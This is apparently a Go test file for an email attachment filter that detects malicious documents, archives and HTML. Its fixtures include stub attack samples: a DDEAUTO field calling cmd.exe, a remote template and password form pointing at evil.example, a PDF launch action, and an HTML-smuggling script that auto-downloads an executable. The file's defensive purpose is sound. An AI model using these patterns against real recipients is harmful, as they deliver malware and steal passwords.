package attachment

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"garita/archive"
	"garita/document"
	"garita/filetype"
	"garita/filters"
	"garita/mail"
	"garita/resolver"
)

// made gives the check itself.
func made(t testing.TB, c Config) *Check {
	t.Helper()
	k, err := New(c)
	if err != nil {
		t.Fatal(err)
	}
	return k.Impl.(*Check)
}

// traited has the inspector of documents say what it is told.
func traited(k *Check, traits ...document.Trait) {
	said := false
	k.inspect = func(context.Context, filetype.Type, []byte, document.Limits) []document.Trait {
		if said {
			return nil // of the embedded file
		}
		said = true
		return traits
	}
}

// run judges a message without an engine.
func run(t testing.TB, k *Check, raw string) ([]mail.Finding, error) {
	t.Helper()
	m := spool(t, raw)
	defer m.Release()
	res, err := k.CheckMessage(context.Background(), transaction(t, m, mail.In))
	return res.Findings, err
}

// Every trait that package document knows has its class, or none on purpose.
func TestTraits(t *testing.T) {
	const none = ""
	for id, want := range map[string]string{
		document.Macro: macro, document.MacroType: macro, document.AutoMacro: macroAuto, document.MacroCall: macroAuto, document.XLM: xlm,
		document.RemoteTemplate: remoteTemplate, document.ExternalLink: externalLink, document.DDE: dde,
		document.OLEObject: embeddedObject, document.ObjectUpdate: embeddedObject, document.ActiveX: embeddedObject, document.EquationEditor: equation,
		document.Encrypted: docEncrypted, document.Obfuscated: mismatch, document.PDFJavaScript: pdfScript, document.PDFLaunch: pdfLaunch,
		document.PDFRemote: externalLink, document.HTMLSmuggling: htmlSmuggling, document.HTMLForm: htmlForm, document.HTMLApp: script,
		document.SVGScript: svgScript, document.Damaged: docDamaged, document.Unfinished: bomb, document.EmbeddedFile: pdfEmbedded,
		// What ordinary documents and pages are full of.
		document.PDFOpenAction: none, document.PDFSubmit: none, document.PDFXFA: none, document.PDFMedia: none, document.HTMLScript: none, document.HTMLHandler: none,
		document.HTMLFrame: none, document.HTMLRefresh: htmlForm, document.HTMLBase: none, document.SVGForeign: none, document.ShortcutTarget: none,
	} {
		k := made(t, Default())
		traited(k, document.Trait{ID: id})
		fs, err := run(t, k, letter(file{name: "a.pdf", data: pdf()}))
		if got := strings.Join(symbols(fs), " "); err != nil || got != want {
			t.Errorf("%s: %q %v, want %q", id, got, err, want)
		}
	}
	for _, id := range document.IDs() {
		if classOfTrait(id, filetype.Type{}) == "" && document.Meaning(id) == "" {
			t.Errorf("%s is no trait", id)
		}
	}
	for _, id := range []string{document.OLEObject, document.EmbeddedFile, document.Obfuscated} {
		if got := classOfTrait(id, filetype.Type{Name: "rtf"}); got != rtfObject {
			t.Errorf("rtf %s: %s", id, got)
		}
	}
}

// A file in a document is judged as one outside, archives in it too.
func TestEmbedded(t *testing.T) {
	for _, r := range []document.Trait{
		{ID: document.EmbeddedFile, Names: []string{"a.exe"}, Data: []byte("x")},
		{ID: document.EmbeddedFile, Names: []string{"a.bin"}, Data: []byte(pe())},
		{ID: document.EmbeddedFile, Names: []string{"a.zip"}, Data: []byte(zipped(t, "b.exe", "x"))},
		{ID: document.EmbeddedFile, Names: []string{"b.exe"}},
	} {
		k := made(t, Default())
		traited(k, r)
		if fs, err := run(t, k, letter(file{name: "a.pdf", data: pdf()})); err != nil || !slices.Equal(symbols(fs), []string{executable, pdfEmbedded}) {
			t.Errorf("%v: %v %v", r.Names, fs, err)
		}
	}
}

// The real inspector, on documents made here.
func TestDocuments(t *testing.T) {
	office := func(body string, more ...string) string {
		const ns = `xmlns="http://schemas.openxmlformats.org/package/2006/relationships"`
		files := []string{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
			"_rels/.rels", `<?xml version="1.0"?><Relationships ` + ns + `/>`, "word/document.xml", body}
		return zipped(t, append(files, more...)...)
	}
	const word = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>`
	const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>`
	for _, c := range []struct {
		title, name, data, want string
		verdict                 mail.Verdict
	}{
		{"DDE", "a.docx", office(word + `<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe x"/></w:p></w:body></w:document>`), dde, mail.Quarantine},
		{"template", "a.docx", office(word+`</w:body></w:document>`, "word/_rels/settings.xml.rels", rels), remoteTemplate, mail.Quarantine},
		{"in a zip", "a.zip", zipped(t, "b.docx", office(word+`</w:body></w:document>`, "word/_rels/settings.xml.rels", rels)), remoteTemplate, mail.Quarantine},
		{"PDF script", "a.pdf", strings.Replace(pdf(), "/Catalog", "/Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", 1), pdfScript, mail.Continue},
		{"PDF launch", "a.pdf", strings.Replace(pdf(), "/Catalog", "/Catalog /OpenAction << /S /Launch /F (cmd.exe) >>", 1), pdfLaunch, mail.Quarantine},
		{"SVG script", "a.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`, svgScript, mail.Quarantine},
		{"smuggling", "a.html", `<html><script>var b=new Blob([atob("` + strings.Repeat("TVqQAAMA", 200) + `")]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='a.exe';a.click();</script></html>`, htmlSmuggling, mail.Quarantine},
		{"form", "a.html", `<html><form action="http://evil.example/"><input type="password" name="p"></form></html>`, htmlForm, mail.Continue},
		{"RTF object", "a.doc", `{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b61676500}}}`, rtfObject, mail.Quarantine},
	} {
		d, fs := decided(t, Default(), letter(file{name: c.name, data: c.data}), mail.In)
		if !slices.Contains(symbols(fs), c.want) || d.Verdict != c.verdict {
			t.Errorf("%s: %v %v, want %s %v", c.title, symbols(fs), d.Verdict, c.want, c.verdict)
		}
	}
}

// Z-22: the documents of a message have one budget of time.
func TestDocumentTime(t *testing.T) {
	k := made(t, Default())
	now := time.Unix(0, 0)
	k.now = func() time.Time { return now }
	asked := 0
	k.inspect = func(context.Context, filetype.Type, []byte, document.Limits) []document.Trait {
		asked++
		now = now.Add(k.cfg.Archives.Time/2 + 1)
		return nil
	}
	f := file{name: "a.pdf", data: pdf()}
	fs, err := run(t, k, letter(f, f, f))
	if err != nil || asked != 2 || !slices.Equal(symbols(fs), []string{bomb}) {
		t.Errorf("%d asked: %v %v", asked, fs, err)
	}
}

// E-52: names from other places count where there is no better one, and
// domains and subjects are none.
func TestWeakNames(t *testing.T) {
	for fields, want := range map[string]string{
		"Content-Type: application/octet-stream\r\nContent-Description: setup.exe":                   executable,
		"Content-Type: application/octet-stream\r\nContent-Location: http://a.example/b/run.ps1?x=1": script,
		"Content-Type: text/plain\r\nContent-Description: run.ps1":                                   script,
		"Content-Type: application/octet-stream\r\nContent-ID: <run.ps1@a.example>":                  script,
		"Content-Type: image/png\r\nContent-ID: <1@acme.com>":                                        "",
		"Content-Type: image/png\r\nContent-Location: http://www.acme.com":                           "",
		"Content-Type: image/png\r\nContent-Description: Logo de acme.com":                           "",
		"Content-Type: image/png; name=a.png\r\nContent-Description: foto de setup.exe":              "",
		"Content-Type: text/html\r\nContent-Location: http://www.acme.com/\r\nContent-ID: <x@y.com>": "",
	} {
		data := "hola"
		if strings.Contains(fields, "image/png") {
			data = "\x89PNG\r\n\x1a\n"
		}
		if got := strings.Join(symbols(checked(t, Default(), letter(file{fields: fields, data: data}), mail.In)), " "); got != want {
			t.Errorf("%q: %q, want %q", fields, got, want)
		}
	}
	raw := "From: a@b.example\r\nSubject: error en setup.exe\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nhola\r\n"
	if fs := checked(t, Default(), raw, mail.In); len(fs) > 0 {
		t.Errorf("subject: %v", fs)
	}
	if fs := checked(t, Default(), letter(file{fields: "Content-Type: message/rfc822", data: raw}), mail.In); len(fs) > 0 {
		t.Errorf("subject inside: %v", fs)
	}
}

// Each grade of an archive's defect.
func TestDefects(t *testing.T) {
	for want, d := range map[string]archive.Defect{
		archiveAmbiguous: {ID: "zip-names-differ", Grade: archive.Ambiguous}, archiveEncrypted: {ID: "encrypted", Grade: archive.Encrypted},
		archiveOpaque: {ID: "corrupt", Grade: archive.Opaque}, bomb: {ID: "ratio", Grade: archive.Bomb}, crash: {ID: "decoder-panic", Grade: archive.Opaque},
	} {
		k := made(t, Default())
		k.walk = func(context.Context, []byte, *archive.Budget, func(*archive.Entry) error) ([]archive.Defect, error) {
			return []archive.Defect{d, {ID: "zip-padding", Grade: archive.Odd}}, nil
		}
		fs, err := run(t, k, letter(file{name: "a.zip", data: zipped(t, "a.txt", "x")}))
		if err != nil || len(fs) != 1 || fs[0].Symbol != Prefix+want || fs[0].Verdict != mail.Quarantine {
			t.Errorf("%s: %v %v", want, fs, err)
		}
	}
}

// Z-06: what is encrypted is held, and the names in it are still judged.
func TestEncrypted(t *testing.T) {
	k := made(t, Default())
	k.walk = func(_ context.Context, _ []byte, _ *archive.Budget, visit func(*archive.Entry) error) ([]archive.Defect, error) {
		return nil, visit(&archive.Entry{Names: []string{"a.exe"}, Encrypted: true, Container: "zip"})
	}
	fs, err := run(t, k, letter(file{name: "a.zip", data: zipped(t, "a.txt", "x")}))
	if err != nil || !slices.Equal(symbols(fs), []string{archiveEncrypted, executable}) || fs[0].Verdict != mail.Reject {
		t.Errorf("%v %v", fs, err)
	}
}

// Z-21: the first crash is a fault, the second of the same message a hold,
// and other messages are judged meanwhile.
func TestPoison(t *testing.T) {
	k := made(t, Default())
	k.walk = func(context.Context, []byte, *archive.Budget, func(*archive.Entry) error) ([]archive.Defect, error) {
		panic("decoder")
	}
	bad := letter(file{name: "a.zip", data: zipped(t, "a.txt", "x")})
	if fs, err := run(t, k, bad); !errors.Is(err, errCrash) || len(fs) > 0 {
		t.Fatalf("first: %v %v", fs, err)
	}
	fs, err := run(t, k, bad)
	if err != nil || len(fs) != 1 || fs[0].Symbol != Prefix+crash || fs[0].Verdict != mail.Quarantine {
		t.Fatalf("second: %v %v", fs, err)
	}
	if fs, err := run(t, k, letter()); err != nil || len(fs) > 0 {
		t.Fatalf("other: %v %v", fs, err)
	}
	// Its slot came back each time, and the memory of crashes is bounded.
	for i := range crashes + 10 {
		if _, err := run(t, k, letter(file{name: fmt.Sprint(i, ".zip"), data: zipped(t, "a.txt", "x")})); !errors.Is(err, errCrash) {
			t.Fatalf("%d: %v", i, err)
		}
	}
	if len(k.poison) != crashes || len(k.small)+len(k.large) != 0 {
		t.Errorf("%d crashes, %d %d in work", len(k.poison), len(k.small), len(k.large))
	}
}

// A crash is a 451 for the client, never a silent pass.
func TestCrashDefers(t *testing.T) {
	check, err := New(Default())
	if err != nil {
		t.Fatal(err)
	}
	check.Impl.(*Check).inspect = func(context.Context, filetype.Type, []byte, document.Limits) []document.Trait { panic("x") }
	e, err := filters.New(filters.Config{Checks: []filters.Check{check}})
	if err != nil {
		t.Fatal(err)
	}
	m := spool(t, letter(file{name: "a.pdf", data: pdf()}))
	defer m.Release()
	for _, want := range []mail.Verdict{mail.Defer, mail.Quarantine} {
		tx := transaction(t, m, mail.In)
		e.Mail(t.Context(), tx)
		if d := e.Message(t.Context(), tx); d.Verdict != want {
			t.Errorf("%v, want %v", d.Verdict, want)
		}
	}
}

// Who finds no place waits, and no longer than the context.
func TestAtOnce(t *testing.T) {
	c := Default()
	c.AtOnce = 1
	k := made(t, c)
	inside, goOn := make(chan struct{}), make(chan struct{})
	k.walk = func(context.Context, []byte, *archive.Budget, func(*archive.Entry) error) ([]archive.Defect, error) {
		inside <- struct{}{}
		<-goOn
		return nil, nil
	}
	big := letter(file{name: "a.zip", data: strings.Repeat("\x00", smallMessage)})
	done := make(chan error)
	go func() { _, err := run(t, k, big); done <- err }()
	<-inside
	m := spool(t, big)
	defer m.Release()
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := k.CheckMessage(ctx, transaction(t, m, mail.In)); err == nil {
		t.Error("it did not wait")
	}
	// Small ones have a line of their own, and mail without attachments needs none.
	small := letter(file{name: "a.zip", data: "x"})
	go func() { _, err := run(t, k, small); done <- err }()
	<-inside
	if _, err := run(t, k, letter()); err != nil {
		t.Error(err)
	}
	close(goOn)
	for range 2 {
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
}

// In the session's goroutine only small messages are inspected, and those only
// where they need not wait for their turn.
func TestWouldWait(t *testing.T) {
	k := made(t, Default())
	ctx := resolver.FromCache(t.Context())
	small := letter(file{name: "a.exe", data: pe()})
	asked := func(raw string) (filters.Result, error) {
		m := spool(t, raw)
		defer m.Release()
		return k.CheckMessage(ctx, transaction(t, m, mail.In))
	}
	if _, err := asked(letter()); err != nil {
		t.Error(err)
	}
	if res, err := asked(small); err != nil || len(res.Findings) == 0 {
		t.Errorf("a small message: %v %v", res, err)
	}
	if _, err := asked(letter(file{name: "a.pdf", data: pdf() + strings.Repeat("%", inlineMessage)})); !errors.Is(err, filters.ErrWouldWait) {
		t.Errorf("a large one: %v", err)
	}
	for range cap(k.small) {
		k.small <- struct{}{}
	}
	if res, err := asked(small); err != nil || len(res.Findings) == 0 {
		t.Errorf("with room among the large: %v %v", res, err)
	}
	for range cap(k.large) {
		k.large <- struct{}{}
	}
	if _, err := asked(small); !errors.Is(err, filters.ErrWouldWait) {
		t.Errorf("without a place: %v", err)
	}
	if len(k.small) != cap(k.small) || len(k.large) != cap(k.large) {
		t.Error("places were given back that were not taken")
	}
}

// What hangs in the session's goroutine ends by the check's own timeout.
func TestInlineHasATimeout(t *testing.T) {
	k := made(t, Default())
	k.cfg.Timeout = 5 * time.Millisecond
	k.walk = func(ctx context.Context, _ []byte, _ *archive.Budget, _ func(*archive.Entry) error) ([]archive.Defect, error) {
		<-ctx.Done()
		return nil, ctx.Err()
	}
	m := spool(t, letter(file{name: "a.zip", data: "x"}))
	defer m.Release()
	if _, err := k.CheckMessage(resolver.FromCache(t.Context()), transaction(t, m, mail.In)); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("%v", err)
	}
}

func TestCancelled(t *testing.T) {
	k := made(t, Default())
	ctx, cancel := context.WithCancel(t.Context())
	k.walk = func(context.Context, []byte, *archive.Budget, func(*archive.Entry) error) ([]archive.Defect, error) {
		cancel()
		return nil, nil
	}
	m := spool(t, letter(file{name: "a.zip", data: "x"}, file{name: "b.exe", data: "x"}))
	defer m.Release()
	if res, err := k.CheckMessage(ctx, transaction(t, m, mail.In)); !errors.Is(err, context.Canceled) || len(res.Findings) > 0 {
		t.Errorf("%v %v", res, err)
	}
}

func TestManyFindings(t *testing.T) {
	var files []file
	for i := range 50 {
		files = append(files, file{name: fmt.Sprintf("%d.exe", i), data: pe()})
	}
	fs := checked(t, Default(), letter(files...), mail.In)
	if len(fs) != maxFindings || !strings.HasSuffix(fs[maxFindings-1].Detail, "45 more") {
		t.Errorf("%d: %v", len(fs), fs)
	}
	var sum float64
	for _, f := range fs {
		sum += f.Score
	}
	if sum != 10 {
		t.Errorf("%v points", sum)
	}
}

func TestValidate(t *testing.T) {
	if errs := Default().Validate(); len(errs) > 0 {
		t.Fatal(errs)
	}
	for key, set := range map[string]func(*Config){
		"mode": func(c *Config) { c.Mode = "loud" }, "executable": func(c *Config) { c.Executable = "" }, "out.macro": func(c *Config) { c.Out.Macro = "kill" },
		"extensions[0]": func(c *Config) { c.Extensions = []string{".exe"} }, "allow[0]": func(c *Config) { c.Allow = []string{"pdf"} },
		"types[0]": func(c *Config) { c.Types = []string{"*/*"} }, "except_recipients[0]": func(c *Config) { c.ExceptRecipients = []string{"a b"} },
		"except_senders[0]": func(c *Config) { c.ExceptSenders = []string{"@a.example"} }, "max_count": func(c *Config) { c.MaxCount = -1 }, "max_size": func(c *Config) { c.MaxSize = -1 },
		"at_once": func(c *Config) { c.AtOnce = -1 }, "timeout": func(c *Config) { c.Timeout, c.Archives.Time = 0, 1e9 }, "archives.depth": func(c *Config) { c.Archives.Depth = 0 },
		"archives.time": func(c *Config) { c.Archives.Time = 2 * c.Timeout },
	} {
		c := Default()
		set(&c)
		if errs := c.Validate(); len(errs) == 0 || !strings.HasPrefix(errs[0].Error(), key+" ") {
			t.Errorf("%s: %v", key, errs)
		}
		if _, err := New(c); err == nil {
			t.Errorf("%s: New took it", key)
		}
	}
}

// The tables of docs/attachments.md are those of the code.
func TestDocs(t *testing.T) {
	text, err := os.ReadFile("../../docs/attachments.md")
	if err != nil {
		t.Fatal(err)
	}
	rest := string(text)
	for _, c := range classes() {
		row := fmt.Sprintf("\n| `%s` | %s | %v | ", c.key, c.in, c.points)
		i := strings.Index(rest, row)
		if i < 0 {
			t.Fatalf("no row %q in this order", row)
		}
		rest = rest[i:]
	}
	if n := strings.Count(string(text), "\n| `"); n != len(classes()) {
		t.Errorf("%d rows, %d classes", n, len(classes()))
	}
	for _, line := range strings.Split(string(text), "\n") {
		kind, list, ok := strings.Cut(line, ": ")
		var want filetype.Class
		switch kind {
		case "- executable":
			want = filetype.Executable
		case "- script":
			want = filetype.Script
		case "- shortcut":
			want = filetype.Shortcut
		case "- disk image":
			want = filetype.DiskImage
		default:
			continue
		}
		for _, e := range strings.Fields(list) {
			if got := filetype.ByExtension(e).Class; !ok || got != want {
				t.Errorf("%s: %v, not %v", e, got, want)
			}
		}
	}
	if !strings.Contains(string(text), "`"+strings.Join(Default().Extensions, " ")+"`") {
		t.Error("the default of extensions is not there")
	}
}

func FuzzCheck(f *testing.F) {
	f.Add([]byte(letter(file{name: "a.exe", data: pe()})))
	f.Add([]byte(letter(file{name: "a.zip", data: zipped(f, "a.exe", "x", "b.docx", zipped(f, "word/document.xml", "<a/>"))})))
	f.Add([]byte(letter(file{name: "a.pdf", data: pdf()}, file{name: "a\u202e.html", data: "<script>"})))
	f.Add([]byte(letter(file{fields: "Content-Type: message/rfc822", data: letter(file{name: "b.js", data: "x"})})))
	check, err := New(Default())
	if err != nil {
		f.Fatal(err)
	}
	k := check.Impl.(*Check)
	f.Fuzz(func(t *testing.T, raw []byte) {
		m := spool(t, string(raw))
		defer m.Release()
		res, err := k.CheckMessage(context.Background(), transaction(t, m, mail.In))
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range res.Findings {
			if x.Symbol == Prefix+crash {
				t.Fatalf("%+v", x)
			}
			if x.Reply != nil && strings.IndexFunc(x.Reply.Text, func(r rune) bool { return r < ' ' || r > '~' }) >= 0 {
				t.Fatalf("reply %q", x.Reply.Text)
			}
		}
		if len(res.Findings) > len(classes())*maxFindings {
			t.Fatalf("%d findings", len(res.Findings))
		}
		after, err := io.ReadAll(m.Raw())
		if err != nil || string(after) != string(raw) {
			t.Fatal("the message was changed")
		}
	})
}

func BenchmarkText4K(b *testing.B) {
	k := made(b, Default())
	m := spool(b, "From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n\r\n"+strings.Repeat("Una línea de lo más corriente, como tantas otras.\r\n", 80))
	defer m.Release()
	tx := transaction(b, m, mail.In)
	if _, err := m.Index(b.Context()); err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := k.CheckMessage(b.Context(), tx); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkAttachments(b *testing.B) {
	k := made(b, Default())
	for _, c := range []struct {
		name string
		file file
	}{
		{"jpeg", file{name: "a.jpg", data: jpeg() + strings.Repeat("\x37\xa1\x05", 300<<10)}},
		{"zip", file{name: "a.zip", data: zipped(b, "a.txt", strings.Repeat("una línea de texto\n", 50<<10))}},
		{"pdf", file{name: "a.pdf", data: pdf() + strings.Repeat("% nada que ver aquí\n", 50<<10)}},
	} {
		b.Run(c.name, func(b *testing.B) {
			m := spool(b, letter(c.file))
			defer m.Release()
			tx := transaction(b, m, mail.In)
			if _, err := m.Index(b.Context()); err != nil {
				b.Fatal(err)
			}
			b.SetBytes(m.Size())
			b.ReportAllocs()
			for b.Loop() {
				if res, err := k.CheckMessage(b.Context(), tx); err != nil || len(res.Findings) > 0 {
					b.Fatal(res, err)
				}
			}
		})
	}
}
